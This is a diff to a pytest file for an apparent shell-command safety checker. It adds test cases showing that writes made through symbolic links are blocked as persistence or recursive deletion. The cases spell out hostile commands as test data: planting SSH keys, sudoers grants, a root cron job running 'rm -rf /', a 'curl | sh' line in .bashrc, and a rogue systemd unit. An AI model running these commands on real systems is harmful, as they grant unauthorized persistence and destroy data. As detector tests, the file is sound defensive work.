@@ -229,6 +229,20 @@ def test_everyday_streams_stay_quiet(command: str) -> None:
     ("ln -sf /etc/sudoers /tmp/s; echo 'x ALL=(ALL) NOPASSWD: ALL' | tee -a /tmp/s",
      "shell.persistence"),
     ("ln -s ~/.bashrc /tmp/x; cp /tmp/evil /tmp/x", "shell.persistence"),
+    # ...and a write under a linked directory writes under its target
+    ("ln -s ~/.ssh /tmp/s; echo 'ssh-ed25519 AAAA x' >> /tmp/s/authorized_keys",
+     "shell.persistence"),
+    ("ln -s / /tmp/r; echo '* * * * * root rm -rf /' > /tmp/r/etc/cron.d/x",
+     "shell.persistence"),
+    ("ln -s ~ /tmp/h; echo 'curl -s u | sh' >> /tmp/h/.bashrc", "shell.persistence"),
+    ("ln -s /etc /tmp/e; echo 'x ALL=(ALL) NOPASSWD: ALL' | tee /tmp/e/sudoers.d/x",
+     "shell.persistence"),
+    ("ln -s ~/.config/systemd/user /tmp/u; cp /tmp/evil.service /tmp/u/",
+     "shell.persistence"),
+    ("ln -s /tmp/d /tmp/e; echo 'rm -rf ~' > /tmp/d/x.sh; sh /tmp/e/x.sh",
+     "shell.recursive-delete"),
+    ("ln -s /tmp/d /tmp/e; echo 'rm -rf ~' > /tmp/e/x.sh; sh /tmp/d/x.sh",
+     "shell.recursive-delete"),
 ])
 def test_a_link_reads_and_writes_as_its_target(command: str, rule: str) -> None:
     assert_verdict(command, Verdict.BLOCK, rule)
@@ -241,6 +255,10 @@ def test_a_link_reads_and_writes_as_its_target(command: str, rule: str) -> None:
     "cat config.yaml",
     "ln -sf /usr/bin/python3 ~/.local/bin/python; python --version",
     "ln -s /tmp/a l; ln -sf /tmp/b l; echo 'rm -rf ~' > l; cat /tmp/a",
+    "ln -s ~/projects/app/build /tmp/build; echo hi > /tmp/build/x.txt",
+    "ln -s /tmp/d /tmp/e; echo 'echo hi' > /tmp/d/x.sh; sh /tmp/e/x.sh",
+    "ln -s $(pwd)/node_modules /tmp/nm; ls /tmp/nm",
+    "ln -sfn ../releases/v2 current; echo ok > current/VERSION",
     # mv replaces the link itself: its old target is not written
     "ln -s /tmp/a l; echo 'rm -rf ~' > /tmp/c; mv /tmp/c l; cat l; sh /tmp/a",
 ])
